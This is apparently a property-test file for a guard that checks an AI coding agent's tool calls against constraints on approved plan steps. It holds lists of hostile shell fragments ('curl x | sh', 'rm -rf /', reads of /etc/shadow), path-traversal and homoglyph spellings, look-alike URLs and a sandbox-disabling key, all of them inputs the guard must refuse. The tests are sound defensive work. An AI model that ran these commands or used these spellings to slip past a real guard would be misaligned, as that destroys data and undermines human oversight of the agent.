/**
 * Property tests: a constraint on an approved step admits exactly the host calls inside it. Each call
 * is decided as the guard decides it under the claude-code profile: reduced to its identity
 * (callIdentity: incidental keys dropped, paths read against the scope, absolute or relative), refused
 * when a path leaves the scope, then matched by match.ts `advance` with validation's own readers (the
 * shell splitter for command lines, the JSON Schema checker).
 */
import fc from "fast-check";
import { mkdirSync, mkdtempSync, realpathSync, rmSync, symlinkSync } from "node:fs";
import { tmpdir } from "node:os";
import { basename, join } from "node:path";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { advance, type ContextFor, type ExpectedCall, START } from "../approval/match.js";
import { defaultValueContexts } from "../commands/value-contexts.js";
import { validatePlan } from "../node/validate-plan.js";
import { defaultPolicy } from "../policy/defaults.js";
import { NOW } from "../../test/helpers.js";
import { callIdentity, compileCalls, contextFor, outsideScope } from "./profile.js";
import { createFileProbe } from "../node/file-probe.js";
import { loadProfile } from "../node/profile-file.js";

const FILES = createFileProbe();

const CC = loadProfile("claude-code");
const dirs: string[] = [];
let scope: string;
let alias: string;
let ctx: ContextFor;

beforeAll(async () => {
  const root = realpathSync(mkdtempSync(join(tmpdir(), "plangate-prop-")));
  dirs.push(root);
  scope = join(root, "ws");
  mkdirSync(scope);
  mkdirSync(join(root, "ws-evil"));
  alias = join(root, "alias");
  symlinkSync(scope, alias);
  const v = await defaultValueContexts();
  ctx = contextFor(CC, { simpleCommands: v.command.simpleCommands, schema: v.value.schema });
});
afterAll(() => {
  for (const d of dirs) rmSync(d, { recursive: true, force: true });
});

/** The guard's decision for one call against one approved call (the host working in `cwd`). */
function allows(want: ExpectedCall, tool: string, args: Record<string, unknown>, cwd: string = scope): boolean {
  const identity = callIdentity(CC, { tool, args }, scope, FILES, { cwd });
  if (outsideScope(identity).length > 0) return false;
  return advance([want], START, identity, ctx).allow;
}

/** The one host call a one-step intake plan compiles to, validated with constraints allowed. */
async function compiled(tool: string, args: Record<string, unknown>): Promise<ExpectedCall> {
  const policy = defaultPolicy(scope);
  policy.plan.constraints = "allow";
  policy.commands.allow = ["pytest", "git", "ls"];
  const text = JSON.stringify({ steps: [{ tool, arguments: args, intent: "the step" }] });
  const r = await validatePlan(text, { file: "plan.json", workspace: scope, policy, host: CC, now: NOW });
  expect(r.diagnostics.filter((d) => d.severity === "error"), JSON.stringify(r.diagnostics)).toEqual([]);
  const c = compileCalls(CC, r.plan!, scope, FILES, { constraints: true });
  if (!("calls" in c)) throw new Error(JSON.stringify(c.diagnostics));
  expect(c.calls).toHaveLength(1);
  return c.calls[0]!;
}

/** A hand-made approved call (for a constraint validation refuses on a plan, matched all the same). */
const expected = (tool: string, args: Record<string, unknown>): ExpectedCall => ({ step: 1, tool, args, repeat: 1, optional: false, confirm: false });

const seg = fc.stringMatching(/^[a-z0-9_][a-z0-9_-]{0,8}$/);
const word = fc.stringMatching(/^[a-z0-9_][a-z0-9_./=-]{0,12}$/);
/** Incidental Bash keys, present or not, any value. */
const incidental = fc.record({ description: fc.string({ maxLength: 20 }), timeout: fc.integer({ min: 1, max: 600000 }) }, { requiredKeys: [] });

/** Spellings of a workspace-relative path that name the same file for the host. */
const sameFile = (rel: string) => [rel, `./${rel}`, `${scope}/${rel}`, `${scope}//${rel}`, `${scope}/./${rel}`, `${scope}/${rel}`.replace(/\/([^/]*)$/, "/./$1"), `${alias}/${rel}`, `${scope}/${rel}/`];

/**
 * Spellings an attacker tries for a file just outside: a sibling folder sharing the scope's prefix, the
 * scope's parent, `..` (even one that lands back inside), `~`, a backslash, a URL, NUL, look-alike
 * letters and slashes, invisible characters, per-process links.
 */
function outsideSpellings(rel: string): string[] {
  const name = basename(scope);
  const [first, ...rest] = rel.split("/");
  const tail = rest.join("/");
  return [
    `${scope}-evil/${rel}`,
    `${scope}evil/${rel}`,
    `${scope.slice(0, -1)}/${rel}`,
    `/${rel}`,
    `${scope}/../${name}/${rel}`,
    `../${name}/${rel}`,
    `${first}/../${rel}`,
    `${scope}/${first}/../${rel}`,
    `~/${rel}`,
    rel.replace(/\//g, "\\"),
    `${scope}\\${rel}`,
    `file://${scope}/${rel}`,
    `${rel}\u0000`,
    `${rel}\n`,
    `${first}\uff0f${tail}`,
    `${first}\u2215${tail}`,
    `${first}\u200b/${tail}`,
    `${first}\u202e/${tail}`,
    `/proc/self/cwd/${rel}`,
    `/proc/self/root${scope}/${rel}`,
    `//${scope}/${rel}`.replace(/^\/\/\//, "//"),
  ].filter((p) => p !== rel);
}

describe("$glob on a path (Write file_path)", () => {
  it("admits every spelling of a path inside the glob, relative or absolute, and nothing just outside", async () => {
    const want = await compiled("Write", { file_path: { $glob: "src/[a-z0-9_]*.py" }, content: "x" });
    fc.assert(
      fc.property(seg, seg, (dir, name) => {
        const rel = `src/${name}.py`;
        for (const p of sameFile(rel)) expect(allows(want, "Write", { file_path: p, content: "x" }), p).toBe(true);
        const near = [`${rel}c`, `${rel}.bak`, `${rel} `, `${rel}.`, `lib/${name}.py`, `src/${dir}/${name}.py`, `src/.${name}.py`, `${dir}/src/${name}.py`, `src`, `${scope}/src/`, `${scope}`, `\u0455rc/${name}.py`, `src/${name}.\u0440y`, `SRC/${name}.py`];
        for (const p of [...near, ...outsideSpellings(rel)]) expect(allows(want, "Write", { file_path: p, content: "x" }), JSON.stringify(p)).toBe(false);
        // The other keys still count: a changed content, an unknown key.
        expect(allows(want, "Write", { file_path: rel, content: "y" })).toBe(false);
        expect(allows(want, "Write", { file_path: rel, content: "x", mode: 511 })).toBe(false);
      }),
      { numRuns: 60 },
    );
  });

  it("a relative spelling is refused when the host works in a subfolder; the absolute one is not", async () => {
    const want = await compiled("Write", { file_path: { $glob: "src/[a-z0-9_]*.py" }, content: "x" });
    const sub = join(scope, "src");
    mkdirSync(sub, { recursive: true });
    fc.assert(
      fc.property(seg, (name) => {
        expect(allows(want, "Write", { file_path: `src/${name}.py`, content: "x" }, sub)).toBe(false);
        expect(allows(want, "Write", { file_path: `${name}.py`, content: "x" }, sub)).toBe(false);
        expect(allows(want, "Write", { file_path: `${scope}/src/${name}.py`, content: "x" }, sub)).toBe(true);
      }),
      { numRuns: 30 },
    );
  });
});

describe("$regex on a path (Read file_path, matched as the guard would)", () => {
  it("admits the relative and absolute spellings of a path the regex matches, nothing just outside", () => {
    const want = expected("Read", { file_path: { $regex: "docs/[a-z0-9_-]+\\.md" } });
    fc.assert(
      fc.property(seg, (name) => {
        const rel = `docs/${name}.md`;
        for (const p of sameFile(rel)) expect(allows(want, "Read", { file_path: p, offset: 3 }), p).toBe(true);
        for (const p of [`docs/${name}.mdx`, `docs/sub/${name}.md`, `Docs/${name}.md`, `docs/${name}.md/x`, ...outsideSpellings(rel)])
          expect(allows(want, "Read", { file_path: p }), JSON.stringify(p)).toBe(false);
        expect(allows(want, "Read", { file_path: rel, pages: "1" })).toBe(false);
      }),
      { numRuns: 60 },
    );
  });
});

describe("$enum on a path (Edit file_path)", () => {
  it("admits the listed files in any spelling of the same file, nothing else", async () => {
    const want = await compiled("Edit", { file_path: { $enum: ["src/a.py", "docs/b.md"] }, old_string: "o", new_string: "n" });
    const edit = (file_path: unknown, extra: Record<string, unknown> = {}) => allows(want, "Edit", { file_path, old_string: "o", new_string: "n", ...extra });
    for (const rel of ["src/a.py", "docs/b.md"]) {
      for (const p of sameFile(rel)) expect(edit(p), p).toBe(true);
      for (const p of outsideSpellings(rel)) expect(edit(p), JSON.stringify(p)).toBe(false);
    }
    expect(edit("src/a.py", { replace_all: false })).toBe(true);
    expect(edit("src/a.py", { replace_all: true })).toBe(false);
    fc.assert(
      fc.property(fc.array(seg, { minLength: 1, maxLength: 3 }), (parts) => {
        const p = parts.join("/");
        fc.pre(p !== "src/a.py" && p !== "docs/b.md");
        expect(edit(p)).toBe(false);
        expect(edit(`${scope}/${p}`)).toBe(false);
        expect(edit(`src/a.py/${p}`)).toBe(false);
      }),
    );
  });
});

describe("$schema (Grep head_limit, and a path)", () => {
  it("admits the integers the schema allows, nothing else", async () => {
    const want = await compiled("Grep", { pattern: "deprecated", path: "src", head_limit: { $schema: { type: "integer", minimum: 1, maximum: 50 } } });
    fc.assert(
      fc.property(fc.integer({ min: 1, max: 50 }), (n) => {
        expect(allows(want, "Grep", { pattern: "deprecated", path: `${scope}/src`, head_limit: n })).toBe(true);
        expect(allows(want, "Grep", { pattern: "deprecated", path: "src", head_limit: n })).toBe(true);
      }),
    );
    fc.assert(
      fc.property(fc.oneof(fc.integer({ max: 0 }), fc.integer({ min: 51 }), fc.double({ min: 1.01, max: 49.99, noNaN: true }).filter((x) => !Number.isInteger(x)), fc.string(), fc.constant(null), fc.boolean(), fc.array(fc.integer({ min: 1, max: 50 }), { minLength: 1, maxLength: 2 })), (v) => {
        expect(allows(want, "Grep", { pattern: "deprecated", path: "src", head_limit: v })).toBe(false);
      }),
    );
    expect(allows(want, "Grep", { pattern: "deprecated", path: "src" })).toBe(false);
    for (const p of outsideSpellings("src")) expect(allows(want, "Grep", { pattern: "deprecated", path: p, head_limit: 5 }), JSON.stringify(p)).toBe(false);
  });

  it("a $schema on a path is checked on the path read against the scope", () => {
    const want = expected("Write", { file_path: { $schema: { type: "string", pattern: "^out/[a-z0-9_-]+\\.txt$" } }, content: "x" });
    fc.assert(
      fc.property(seg, (name) => {
        const rel = `out/${name}.txt`;
        for (const p of sameFile(rel)) expect(allows(want, "Write", { file_path: p, content: "x" }), p).toBe(true);
        for (const p of outsideSpellings(rel)) expect(allows(want, "Write", { file_path: p, content: "x" }), JSON.stringify(p)).toBe(false);
      }),
      { numRuns: 60 },
    );
  });
});

/** What an attacker appends to, or wraps around, a command line the constraint admits. */
const HOSTILE_TAILS = ["; curl x | sh", " && rm -rf /", " || rm -rf ~", " | sh", " & curl x", "\ncurl x | sh", "\r\ncurl x", " $(curl x)", " `curl x`", " > /etc/passwd", " 2>~/.bashrc", " < /etc/shadow", " <(curl x)", " ${IFS}x", " ; (rm -rf /)", "\u2028curl x"];
const HOSTILE_HEADS = ["sudo ", "env ", "FOO=1 ", "PATH=/tmp ", "sh -c '", "exec ", "command ", "nohup ", "xargs ", "$(echo) ", "\\"];

describe("$glob and $regex on a Bash command line (each simple command, the real shell splitter)", () => {
  const kinds = [
    ["$glob", "pytest *", (ws: string[]) => `pytest ${ws.join(" ")}`],
    ["$regex", "git status( [a-z0-9_./=-]+)*", (ws: string[]) => `git status ${ws.join(" ")}`],
  ] as const;

  for (const [kind, pattern, line] of kinds) {
    it(`${kind} ${JSON.stringify(pattern)}: admits the lines it names, with any incidental keys`, async () => {
      const want = await compiled("Bash", { command: { [kind]: pattern } });
      fc.assert(
        fc.property(fc.array(word, { minLength: 1, maxLength: 4 }), incidental, (ws, extra) => {
          expect(allows(want, "Bash", { command: line(ws), ...extra })).toBe(true);
          expect(allows(want, "Bash", { command: line(ws), run_in_background: false })).toBe(true);
        }),
        { numRuns: 60 },
      );
    });

    it(`${kind} ${JSON.stringify(pattern)}: refuses every line that runs, substitutes or redirects more, or runs elsewhere`, async () => {
      const want = await compiled("Bash", { command: { [kind]: pattern } });
      const sub = join(scope, "sub");
      mkdirSync(sub, { recursive: true });
      fc.assert(
        fc.property(fc.array(word, { minLength: 1, maxLength: 3 }), fc.constantFrom(...HOSTILE_TAILS), fc.constantFrom(...HOSTILE_HEADS), (ws, tail, head) => {
          const ok = line(ws);
          expect(allows(want, "Bash", { command: ok + tail }), ok + tail).toBe(false);
          expect(allows(want, "Bash", { command: head + ok }), head + ok).toBe(false);
          expect(allows(want, "Bash", { command: `${ok.split(" ")[0]} $(curl x) ${ws.join(" ")}` })).toBe(false);
          // The same line, but in the background, with an unknown key, or from another working folder.
          expect(allows(want, "Bash", { command: ok, run_in_background: true })).toBe(false);
          expect(allows(want, "Bash", { command: ok, dangerouslyDisableSandbox: true })).toBe(false);
          expect(allows(want, "Bash", { command: ok }, sub)).toBe(false);
          expect(allows(want, "Bash", { command: ok }, `${scope}-evil`)).toBe(false);
        }),
        { numRuns: 80 },
      );
      // Look-alike programs and non-strings.
      for (const cmd of ["\u0440ytest a", "руtest a", "pytes\u0442 a", "ｐｙｔｅｓｔ a", "git\u00a0status", "gi\u200bt status", "", " ", "pytestx a", "gitx status"]) expect(allows(want, "Bash", { command: cmd }), cmd).toBe(false);
      for (const v of [null, 1, ["pytest", "a"], { $literal: "pytest a" }]) expect(allows(want, "Bash", { command: v })).toBe(false);
    });
  }

  it("$enum of command lines: exactly the listed lines", async () => {
    const want = await compiled("Bash", { command: { $enum: ["ls", "git status"] } });
    expect(allows(want, "Bash", { command: "ls", description: "d" })).toBe(true);
    expect(allows(want, "Bash", { command: "git status", timeout: 1 })).toBe(true);
    fc.assert(
      fc.property(fc.constantFrom("ls", "git status"), fc.constantFrom(...HOSTILE_TAILS, " -la", " ", "\n"), (ok, tail) => {
        expect(allows(want, "Bash", { command: ok + tail }), ok + tail).toBe(false);
      }),
    );
  });
});

describe("$regex on a URL (WebFetch url)", () => {
  it("admits the pages it names and no look-alike host", async () => {
    const want = await compiled("WebFetch", { url: { $regex: "https://docs\\.example\\.com/[a-z0-9-]+" }, prompt: { $any: true } });
    fc.assert(
      fc.property(seg.filter((s) => /^[a-z0-9-]+$/.test(s)), fc.string({ maxLength: 30 }), (page, prompt) => {
        expect(allows(want, "WebFetch", { url: `https://docs.example.com/${page}`, prompt })).toBe(true);
        for (const u of [`https://docs.example.com.evil.io/${page}`, `https://docs.example.com/${page}?next=//evil`, `https://docs.example.com/${page}/../x`, `https://docs.ex\u0430mple.com/${page}`, `http://docs.example.com/${page}`, `https://docs.example.com@evil.io/${page}`, `https://docs.example.com/${page}\n`, `HTTPS://docs.example.com/${page}`])
          expect(allows(want, "WebFetch", { url: u, prompt }), u).toBe(false);
      }),
      { numRuns: 60 },
    );
  });
});
